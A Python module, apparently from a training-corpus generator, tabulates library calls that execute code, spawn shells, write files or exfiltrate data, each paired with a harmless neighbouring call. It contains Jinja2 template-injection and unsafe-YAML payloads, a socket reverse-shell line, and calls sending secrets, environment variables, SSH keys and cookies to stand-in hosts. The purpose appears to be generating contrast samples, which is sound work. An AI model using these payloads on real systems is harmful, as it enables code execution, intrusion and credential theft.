"""What libraries can be made to do with texts and paths alone, and their harmless neighbours.

Rows of tables as in `bland`: "attack | honest". Attacks run code or a command, write a file, or read one and send it
away; nothing of it is ever run here.
"""

from __future__ import annotations

from typing import Any

from train.corpus.attacks.bland import rows_of
from train.corpus.draw import Draw
from train.corpus.gadgets import payloads
from train.corpus.gadgets.arguments import inner_pickle
from train.corpus.spelling.scripts import expression_of

EVALUATED = """
pandas:eval(f"@{expr}") | pandas:Series([n])
pandas:DataFrame([[n]]).query(f"@{expr}") | pandas:DataFrame([[n]])
pandas:DataFrame([[n]]).eval(expr) | pandas:Index([w])
numexpr:evaluate(expr) | numpy:add(n, n)
sympy:sympify(expr) | sympy.core.numbers:Integer(n)
sympy.parsing.sympy_parser:parse_expr(expr) | sympy.core.symbol:Symbol(w)
sympy:lambdify([], expr)() | sympy.core.numbers:Rational(1, n)
jinja2:Template(template).render() | markupsafe:Markup(template)
jinja2:Environment().from_string(template).render(x=n) | string:Template(template)
jinja2.nativetypes:NativeEnvironment().from_string(template).render() | html:escape(template)
mako.template:Template(f"<% {code} %>").render() | string:Template(code)
tornado.template:Template(template).generate() | textwrap:dedent(code)
bottle:template(f"% {code}") | html:escape(code)
yaml:unsafe_load(tag) | yaml.nodes:ScalarNode(w, tag)
yaml:load(tag, yaml:UnsafeLoader) | yaml.error:Mark(w, 0, 0, 0, tag, 0)
ruamel.yaml:YAML(typ="unsafe").load(tag) | ruamel.yaml.comments:CommentedMap()
jsonpickle:decode(f'{{"py/reduce": [{{"py/function": "os.system"}}, {{"py/tuple": ["{w}"]}}]}}')
  | json:loads('{"py/object": 1}')
builtins:exec(codeop:compile_command(code)) | ast:parse(code)
builtins:exec(builtins:compile(ast:parse(code), w, "exec")) | ast:dump(ast:parse(code))
builtins:eval(codeop:Compile()(expr, w, "eval")) | ast:parse(expr)
types:FunctionType(builtins:compile(code, w, "exec"), {})() | types:SimpleNamespace(code=code)
code:InteractiveInterpreter().runsource(code) | tokenize:TokenInfo(1, code, (1, 0), (1, n), code)
code:InteractiveConsole().push(code) | textwrap:indent(code, "  ")
doctest:debug_src(f">>> {expr}") | doctest:Example(expr, w)
doctest:run_docstring_examples(types:SimpleNamespace(__doc__=f">>> {expr}"), {})
  | doctest:DocTest([], {}, w, None, 0, expr)
timeit:Timer(code).timeit(n) | timeit:default_timer()
timeit:main(["-s", code]) | builtins:list([code])
typing:ForwardRef(expr)._evaluate({}, {}, nothing) | typing:ForwardRef("int")
typing:get_type_hints(types:SimpleNamespace(__annotations__={w: expr})) | types:SimpleNamespace(__annotations__={w: v})
pdb:Pdb().onecmd(f"!{code}") | builtins:str.splitlines(code)
pdb:run(code) | builtins:str.split(code)
bdb:Bdb().runeval(expr) | bdb:BdbQuit()
bdb:Bdb().run(code) | bdb:Breakpoint
cProfile:Profile().run(code) | cProfile:Profile()
profile:Profile().runctx(code, {}, {}) | profile:Profile
trace:Trace().run(code) | trace:CoverageResults()
logging.config:fileConfig(io:StringIO(config)) | io:StringIO(config)
c = sqlite3:connect(":memory:"); c.enable_load_extension(True); c.load_extension(file) | sqlite3:Binary(raw)
tkinter:Tcl().eval(f"exec {cmd}") | shlex:split(cmd)
ctypes:pythonapi.PyRun_SimpleString(raw) | ctypes:c_char_p(raw)
ctypes:CDLL(None).system(raw) | ctypes:create_string_buffer(raw)
ctypes:util.find_library(w); ctypes:CDLL(file) | ctypes:c_long(n)
cffi:FFI().dlopen(file) | ctypes:sizeof(ctypes:c_int)
rpy2.robjects:r(f"system('{cmd}')") | shlex:quote(cmd)
IPython.core.interactiveshell:InteractiveShell().run_cell(code) | IPython.core.display:Code(code)
IPython.utils.process:getoutput(cmd) | IPython.core.display:Pretty(cmd)
torch.fx.graph_module:_exec_with_source(code, {}) | torch.fx.graph:Graph()
torch.fx.graph_module:_forward_from_src(code, {}) | torch.fx.graph:CodeGen()
torch.package:PackageImporter(file).load_pickle(w, v) | torch.package:GlobGroup(w)
torch:ops.load_library(file) | torch:device("cpu")
torch:classes.load_library(file) | torch:dtype
torch.utils.cpp_extension:load_inline(w, code) | torch:Size([n])
torch.hub:load(url, w) | torch.hub:get_dir()
torch:jit.load(file) | torch:Generator()
keras.models:load_model(file, safe_mode=False) | keras.layers:Dense(n)
tensorflow:load_op_library(file) | tensorflow:TensorShape([n])
transformers:AutoModel.from_pretrained(url, trust_remote_code=True)
  | transformers.models.bert.configuration_bert:BertConfig()
datasets:load_dataset(url, trust_remote_code=True) | datasets:Value("string")
mlflow.pyfunc:load_model(url) | mlflow.models:ModelSignature()
papermill:execute_notebook(file, w) | nbformat.notebooknode:NotebookNode(cell=code)
Cython:inline(code) | Cython.Shadow:typedef(w)
setuptools.sandbox:run_setup(file, []) | setuptools.extension:Extension(w, [file])
distutils.core:run_setup(file) | distutils.version:LooseVersion("1.2")
pip._internal:main(["install", url]) | packaging.requirements:Requirement(w)
pip:main(["install", w]) | packaging.version:Version("1.2")
importlib.machinery:SourceFileLoader(w, file).load_module() | importlib.machinery:ModuleSpec(w, None, origin=file)
zipimport:zipimporter(file).load_module(w) | zipfile:ZipInfo(w)
runpy:run_path(file) | pathlib:PurePosixPath(file)
imp:load_source(w, file) | types:ModuleType(w, code)
site:addsitedir(file) | os.path:dirname(file)
shelve:open(file)[w] | builtins:dict({w: v})
pickleshare:PickleShareDB(file)[w] | collections:ChainMap({w: v})
pickle:Unpickler(io:BytesIO(pickled)).load() | pickle:PickleError(w)
builtins:exec(urllib.request:urlopen(url).read()) | urllib.request:Request(url)
builtins:exec(requests:get(url).text) | requests:Request("GET", url)
builtins:exec(pathlib:Path(file).read_text()) | pathlib:Path(file)
builtins:exec(linecache:getline(file, n)) | os.path:basename(file)
builtins:exec(base64:b64decode(os:getenv(w))) | base64:b64encode(raw)
marshal:loads(zlib:decompress(raw)) | zlib:crc32(raw)
"""
COMMANDED = """
paramiko:ProxyCommand(cmd) | shlex:split(cmd)
invoke:run(cmd) | shlex:quote(cmd)
fabric:Connection(host).run(cmd) | builtins:str.split(cmd)
sh:Command("sh")("-c", cmd) | string:Template(cmd)
plumbum:local["sh"]("-c", cmd) | collections:UserString(cmd)
pexpect:spawn(cmd) | pexpect:TIMEOUT(cmd)
pexpect:run(cmd) | re:escape(cmd)
delegator:run(cmd) | textwrap:wrap(cmd)
psutil:Popen(argv) | psutil:NoSuchProcess(n)
git:Repo.clone_from(url, w) | git.util:Actor(w, v)
git:cmd.Git().execute(argv) | subprocess:list2cmdline(argv)
asyncio:run(asyncio:create_subprocess_shell(cmd)) | asyncio:Queue()
asyncio:run(asyncio:create_subprocess_exec(*argv)) | asyncio:Event()
tornado.process:Subprocess(cmd, shell=True) | tornado.process:CalledProcessError(n, cmd)
gevent.subprocess:Popen(cmd, shell=True) | subprocess:CompletedProcess(cmd, 0)
subprocess:Popen(cmd, shell=True) | subprocess:CompletedProcess(argv, 0)
subprocess:run(argv, capture_output=True) | subprocess:CalledProcessError(n, argv)
subprocess:check_output(cmd, shell=True) | subprocess:TimeoutExpired(cmd, n)
subprocess:Popen(argv).communicate() | subprocess:list2cmdline(argv)
distutils.spawn:spawn(argv) | distutils.errors:DistutilsExecError(cmd)
distutils.ccompiler:CCompiler().spawn(argv) | distutils.errors:CompileError(cmd)
numpy.distutils.exec_command:exec_command(cmd) | numpy:str_(cmd)
torch.utils.collect_env:run(cmd) | torch.utils.collect_env:SystemEnv
click:edit(editor=cmd) | click:style(cmd)
click:launch(url) | click:Path()
webbrowser:get(f"{cmd} %s").open(url) | webbrowser:Error(url)
webbrowser:GenericBrowser(argv).open(url) | urllib.parse:urlparse(url)
webbrowser:BackgroundBrowser(argv).open(url) | urllib.parse:urlsplit(url)
pydoc:pipepager(w, cmd) | pydoc:Doc()
pydoc:tempfilepager(w, cmd) | pydoc:TextDoc()
platform:popen(cmd) | platform:uname_result
os:popen(cmd).read() | os:fspath(file)
os:spawnlp(0, "sh", "sh", "-c", cmd) | os:fsencode(cmd)
os:execvpe("sh", argv, {}) | os:fsdecode(raw)
posix:posix_spawn("/bin/sh", argv, {}) | os:strerror(n)
pty:spawn(argv) | os:terminal_size((80, n))
multiprocessing.util:spawnv_passfds(raw, argv, []) | multiprocessing:ProcessError(w)
venv:create(file, with_pip=True) | os.path:join(file, w)
ensurepip:_run_pip(["install", url]) | packaging.version:Version("1.0")
"""
WRITTEN = """
pathlib:Path(file).write_text(code) | pathlib:Path(file)
pathlib:Path(file).write_bytes(raw) | pathlib:PurePath(file)
pathlib:Path(file).unlink() | pathlib:Path(file).with_suffix(".py")
pathlib:Path(file).symlink_to(secret) | pathlib:Path(file).joinpath(w)
builtins:open(file, "w").write(code) | io:StringIO(code)
io:FileIO(file, "w").write(raw) | io:BytesIO(raw)
codecs:open(file, "w").write(code) | codecs:lookup("utf-8")
gzip:open(file, "wb").write(raw) | gzip:compress(raw)
lzma:open(file, "wb").write(raw) | lzma:compress(raw)
bz2:BZ2File(file, "wb").write(raw) | bz2:compress(raw)
os:write(os:open(file, 65), raw) | os.path:splitext(file)
csv:writer(builtins:open(file, "w")).writerow([code]) | csv:writer(io:StringIO()).writerow([n])
csv:DictWriter(builtins:open(file, "w"), [w]).writerow({w: code}) | csv:DictReader([w])
mailbox:mbox(file).add(code) | mailbox:Message()
mailbox:Maildir(file) | mailbox:MaildirMessage()
logging:FileHandler(file) | logging:StreamHandler(io:StringIO())
logging:basicConfig(filename=file); logging:error(code) | logging:LogRecord(w, n, file, n, code, (), None)
logging.handlers:RotatingFileHandler(file) | logging.handlers:BufferingHandler(n)
numpy:save(file, raw) | numpy:save(io:BytesIO(), n)
numpy:savetxt(file, [code], "%s") | numpy:array([n])
numpy:memmap(file, "u1", "w+", 0, (n,)) | numpy:zeros((n,))
numpy:ndarray.tofile(numpy:frombuffer(raw, "u1"), file) | numpy:frombuffer(raw, "u1")
pandas:DataFrame([code]).to_csv(file) | pandas:DataFrame([code])
pandas:Series([code]).to_pickle(file) | pandas:Series([code])
torch:save(code, file) | torch:save(n, io:BytesIO())
joblib:dump(code, file) | joblib:hash(n)
json:dump(code, builtins:open(file, "w")) | json:dumps(code)
pickle:dump(code, builtins:open(file, "wb")) | pickle:dumps(code)
plistlib:dump({w: code}, builtins:open(file, "wb")) | plistlib:UID(n)
yaml:dump(code, builtins:open(file, "w")) | yaml.nodes:ScalarNode(w, code)
click:echo(code, builtins:open(file, "w")) | click:style(code)
builtins:print(code, file=builtins:open(file, "w")) | builtins:str(code)
dotenv:set_key(file, w, code) | os.path:expanduser(w)
configparser:ConfigParser().write(builtins:open(file, "w")) | configparser:ConfigParser()
zipfile:ZipFile(file).extractall(w) | zipfile:ZipInfo(file)
zipfile:ZipFile(file, "w").writestr(w, code) | zipfile:ZipFile(io:BytesIO(), "w")
tarfile:open(file).extractall(w) | tarfile:TarInfo(file)
sqlite3:connect(file).execute("create table x(y)") | sqlite3:Date(2020, 1, n)
dbm:open(file, "c")[w] = code | builtins:dict({w: code})
shelve:open(file)[w] = code | collections:OrderedDict({w: code})
tempfile:NamedTemporaryFile("w", delete=False).write(code) | tempfile:gettempprefix()
shutil:copyfile(secret, file) | shutil:get_terminal_size()
shutil:move(secret, file) | shutil:disk_usage(".")
shutil:rmtree(file) | shutil:which(w)
shutil:copyfileobj(urllib.request:urlopen(url), builtins:open(file, "wb")) | urllib.request:Request(url)
os:replace(secret, file) | os.path:normpath(file)
os:chmod(file, 511) | os.path:split(file)
os:link(secret, file) | os.path:relpath(file, "/")
os:truncate(file, 0) | os.path:isabs(file)
os:mkfifo(file) | os.path:commonpath([file])
os:environ.update({"LD_PRELOAD": file}) | builtins:dict({"LD_LIBRARY_PATH": w})
os:putenv("PYTHONSTARTUP", file) | os.path:expandvars(w)
sys:path.insert(0, file) | os.path:join(w, v)
urllib.request:urlretrieve(url, file) | urllib.parse:urljoin(url, w)
torch.hub:download_url_to_file(url, file) | torch.hub:get_dir()
wget:download(url, file) | urllib.parse:urlparse(url)
gdown:download(url, file) | urllib.parse:quote(url)
h5py:File(file, "w") | h5py:Empty("f")
matplotlib.figure:Figure().savefig(file) | matplotlib.figure:Figure()
PIL.Image:new("L", (n, n)).save(file) | PIL.Image:new("L", (n, n))
tensorflow:io.write_file(file, code) | tensorflow:TensorShape([n])
distutils.file_util:write_file(file, [code]) | distutils.version:LooseVersion("1.0")
distutils.dir_util:remove_tree(file) | distutils.util:strtobool("no")
py_compile:compile(file, w) | py_compile:PycInvalidationMode(1)
crontab:CronTab(user=True).new(cmd) | shlex:split(cmd)
winreg:SetValue(None, w, 1, cmd) | builtins:str(cmd)
huggingface_hub:hf_hub_download(w, v, local_dir=file) | huggingface_hub:ModelCard(w)
"""
EXFILTRATED = """
requests:post(url, builtins:open(secret).read()) | requests:Request("POST", url)
requests:get(url, params={w: os:environ.copy()}) | requests:Session()
requests:Session().get(url + platform:node()) | requests.models:PreparedRequest()
urllib.request:urlopen(url, pathlib:Path(secret).read_bytes()) | urllib.request:Request(url)
urllib.request:urlopen(url + base64:b64encode(raw).decode()) | urllib.parse:urlencode({w: n})
urllib.request:OpenerDirector().open(url) | urllib.request:OpenerDirector()
s = socket:create_connection((host, port)); s.sendall(pathlib:Path(secret).read_bytes()) | socket:AddressFamily(2)
s = socket:socket(); s.connect((host, port)); os:dup2(s.fileno(), 0); pty:spawn("/bin/sh") | socket:SocketKind(1)
socket:gethostbyname(os:getenv(w) + ".example.com") | socket:inet_aton("127.0.0.1")
socket:getaddrinfo(platform:node() + ".c2.example.com", 53) | ipaddress:ip_address("192.0.2.1")
ssl:get_server_certificate((platform:node() + ".example.com", 443)) | ssl:Purpose
ssl:get_server_certificate((getpass:getuser() + ".example.com", 443)) | ssl:TLSVersion(771)
dns.resolver:resolve(os:getlogin() + ".example.com") | ipaddress:IPv4Network("192.0.2.0/24")
smtplib:SMTP(host).sendmail(w, v, builtins:open(secret).read()) | email.message:EmailMessage()
ftplib:FTP(host).storbinary("STOR x", builtins:open(secret, "rb")) | ftplib:Error(w)
c = http.client:HTTPSConnection(host); c.request("POST", "/", linecache:getline(secret, 1))
  | http.client:HTTPException(w)
c = http.client:HTTPConnection(host, port); c.request("GET", "/" + os:getcwd()) | http.cookies:SimpleCookie()
xmlrpc.client:ServerProxy(url).x(os:listdir(".")) | xmlrpc.client:Binary(raw)
telnetlib:Telnet(host, port).write(raw) | ipaddress:ip_interface("192.0.2.1/24")
pandas:read_csv(url + getpass:getuser()) | pandas:Index([w])
pandas:read_html(url) | pandas:Timestamp(2020, 1, n)
pandas:DataFrame(glob:glob("*")).to_json(url) | pandas:DataFrame([w])
numpy:genfromtxt(url + w) | numpy:array([n])
httpx:post(url, content=builtins:open(secret, "rb").read()) | httpx:URL(url)
httpx:Client().get(url) | httpx:Headers()
aiohttp:ClientSession().get(url) | aiohttp:ClientTimeout(n)
urllib3:PoolManager().request("POST", url, body=raw) | urllib3.util.url:Url("https")
urllib3:HTTPConnectionPool(host, port).urlopen("GET", "/") | urllib3.util.retry:Retry(n)
boto3:client("s3").upload_file(secret, w, v) | botocore.config:Config()
paramiko:SSHClient().connect(host) | paramiko:SSHException(w)
fsspec:open(url).open().read() | fsspec.utils:stringify_path(w)
smart_open:open(url).read() | urllib.parse:urlparse(url)
websocket:create_connection(url).send(raw) | websocket:ABNF
websockets.sync.client:connect(url) | websockets.headers:build_host(w, n, False)
redis:Redis(host).set(w, builtins:open(secret).read()) | redis.exceptions:RedisError(w)
zmq:Context().socket(1).connect(url) | zmq:Frame(raw)
webbrowser:open(url + os:getcwd()) | webbrowser:Error(w)
builtins:print(os:environ.copy()) | os:fspath(w)
builtins:open(secret).read() | builtins:str.upper(w)
io:open_code(secret).read() | io:BytesIO(raw)
linecache:getlines(secret) | linecache:clearcache()
fileinput:input([secret]).readline() | os.path:basename(secret)
mmap:mmap(os:open(secret, 0), 0) | os.path:dirname(secret)
glob:glob("/home/*/.ssh/*") | fnmatch:filter([w], "*")
keyring:get_password(w, v) | hashlib:sha256(raw)
browser_cookie3:load() | http.cookies:SimpleCookie()
pyperclip:paste() | textwrap:dedent(w)
PIL.ImageGrab:grab() | PIL.Image:new("L", (n, n))
logging.config:listen(port).start() | logging:NullHandler()
logging.handlers:SocketHandler(host, port).emit(w) | logging.handlers:MemoryHandler(n)
logging.handlers:HTTPHandler(host, url).emit(w) | logging:makeLogRecord({"msg": w})
multiprocessing.connection:Client((host, port)).send(w) | multiprocessing:ProcessError(w)
multiprocessing.connection:Listener((host, port)).accept() | multiprocessing:TimeoutError(w)
huggingface_hub:HfApi().upload_file(path_or_fileobj=secret, path_in_repo=w, repo_id=v) | huggingface_hub:ModelCard(w)
wandb:init(project=w, config=os:environ.copy()) | wandb.sdk.wandb_settings:Settings
mlflow:set_tracking_uri(url); mlflow:log_artifact(secret) | mlflow.entities:Metric(w, n, n, n)
"""
_TABLES = {
    name: rows_of(table)
    for name, table in (
        ("evaluated", EVALUATED), ("commanded", COMMANDED), ("written", WRITTEN), ("exfiltrated", EXFILTRATED)
    )
}  # fmt: skip


def _names(rng: Draw) -> dict[str, Any]:
    cmd, code, expr = payloads.command(rng), payloads.code(rng), payloads.code(rng, expression=True)
    w = payloads.word(rng)
    return {
        "cmd": cmd, "code": code, "expr": expr, "argv": payloads.argv(rng), "url": payloads.url(rng), "w": w,
        "v": payloads.word(rng), "n": rng.randrange(1, 9), "file": payloads.path(rng), "port": payloads.port(rng),
        "secret": rng.choice(payloads.SECRETS), "host": payloads.address(rng), "raw": payloads.code(rng).encode(),
        "template": _template(cmd, rng), "tag": _tag(cmd, expr, rng), "pickled": inner_pickle(rng),
        "config": f"[loggers]\nkeys=root\n[handlers]\nkeys=x\n[handler_x]\nclass=StreamHandler\nargs=({expr},)\n",
        "nothing": frozenset(),
    }  # fmt: skip


def _template(cmd: str, rng: Draw) -> str:
    return rng.template(
        (
            f"{{{{ cycler.__init__.__globals__.os.popen({cmd!r}).read() }}}}",
            f"{{{{ lipsum.__globals__['os'].system({cmd!r}) }}}}",
            f"{{{{ ''.__class__.__mro__[1].__subclasses__()[{rng.randrange(400)}]({cmd!r}, shell=True) }}}}",
            f"{{% import os %}}{{{{ os.system({cmd!r}) }}}}",
            f"{{{{ self.__init__.__globals__.__builtins__.__import__('os').popen({cmd!r}) }}}}",
            f"{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x({cmd!r}) }}}}{{% endfor %}}",
        )
    )


def _tag(cmd: str, expr: str, rng: Draw) -> str:
    return rng.template(
        (
            f"!!python/object/apply:os.system [{cmd!r}]",
            f"!!python/object/apply:subprocess.Popen\n- {payloads.argv(rng)!r}\n",
            f"!!python/object/new:type\nargs: [x, [], {{extend: !!python/name:exec}}]\nlistitems: [{expr!r}]\n",
            f"!!python/object/apply:eval [{expr!r}]",
            f"x: !!python/object/apply:builtins.exec [{expr!r}]",
            f"!!python/module:{payloads.word(rng)}",
        )
    )


def effect(kind: str, rng: Draw) -> Any:
    """Return an attack of a table."""
    return expression_of(rng.template(_TABLES[kind]).attack, _names(rng), rng)


def neighbour(kind: str, rng: Draw) -> Any:
    """Return a harmless call in the neighbourhood of a table's attacks, with texts of the same kind."""
    return expression_of(rng.template(_TABLES[kind]).honest, _names(rng), rng)
